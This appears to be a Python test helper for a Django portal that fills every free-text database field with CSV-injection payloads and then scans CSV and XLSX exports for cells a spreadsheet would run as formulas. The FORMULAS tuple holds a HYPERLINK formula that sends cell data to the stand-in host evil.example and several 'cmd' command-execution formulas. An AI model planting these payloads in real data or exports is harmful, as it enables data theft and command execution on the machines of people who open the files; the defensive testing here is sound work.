"""Hostile values for the walk-every-export and walk-every-redirect tests.

``poison_free_text()`` writes a spreadsheet formula (or another formula trigger) into every
free-text field of every row the portal's apps hold, and into people's names, so that
whatever an export prints from the database is hostile.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime

from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import models

# One per formula trigger of OWASP's CSV Injection page, an error value, a control
# character XML cannot carry.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\x1b[31m",
    "#N/A",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?\Z", re.IGNORECASE)

# Fields that hold names of database objects, patterns or digests the portal computes or
# checks, not text a person writes for people to read.
STRUCTURAL = {
    "inventory.DataCategory": {"slug"},
    "audit.AuditEvent": "all",  # written through the chain's service instead
    "access.AccessRole": {"ticket_pattern"},
    "retention.RetentionRule": {
        "raw_database",
        "raw_table",
        "raw_key_column",
        "date_field",
        "anonymised_marker_field",
        "confirmed_settings_digest",
    },
    "retention.AnonymisedField": {"field_name"},
    "retention.LegalHold": {"raw_table"},
    "retention.LegalHoldRecord": {"raw_table", "object_id"},
    "retention.PurgeRun": {"last_key", "digest"},
    "reports.RopaSnapshot": {"digest"},
    "crm.Customer": {"country"},
}


def _free_text_fields(model) -> list[models.Field]:
    skip = STRUCTURAL.get(model._meta.label, set())
    if skip == "all":
        return []
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and f.name not in skip
        and (f.max_length is None or f.max_length >= 8)
    ]


def poison_free_text() -> int:
    """Every free-text value of the portal's apps (and people's names) becomes a formula;
    returns how many values were written."""
    written = 0
    targets = [m for m in apps.get_models() if m.__module__.startswith("apps.")]
    targets.append(get_user_model())
    for model in targets:
        fields = _free_text_fields(model)
        if model is get_user_model():
            fields = [model._meta.get_field(n) for n in ("first_name", "last_name", "email")]
        if not fields:
            continue
        for pk in model._default_manager.values_list("pk", flat=True):
            changes = {}
            for index, field in enumerate(fields):
                value = FORMULAS[(index + pk) % len(FORMULAS)]
                suffix = f" {pk}" if field.unique else ""
                if field.max_length:
                    value = value[: field.max_length - len(suffix)]
                value += suffix
                changes[field.attname] = value
                written += 1
            model._default_manager.filter(pk=pk).update(**changes)
    return written


def is_portal_number(text: str) -> bool:
    return bool(_NUMBER.match(text))


def unsafe_csv_cells(body: bytes) -> list[str]:
    """Cells of a CSV body a spreadsheet would read as a formula."""
    text = body.decode("utf-8-sig")
    bad = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell[:1] in TRIGGERS and not is_portal_number(cell):
                bad.append(cell)
    return bad


def unsafe_xlsx_cells(body: bytes) -> list[str]:
    """Cells of an XLSX body that are formulas or error values, text that begins with a
    formula trigger, or data typed as anything but text, numbers, dates and booleans."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(body))
    bad = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if value is None:
                    continue
                if cell.data_type in {"f", "e"}:
                    bad.append(f"{sheet.title}!{cell.coordinate} {cell.data_type}: {value!r}")
                elif isinstance(value, str) and value[:1] in TRIGGERS:
                    bad.append(f"{sheet.title}!{cell.coordinate}: {value!r}")
                elif not isinstance(value, str | int | float | bool | date | datetime):
                    bad.append(f"{sheet.title}!{cell.coordinate} {type(value)}: {value!r}")
    return bad
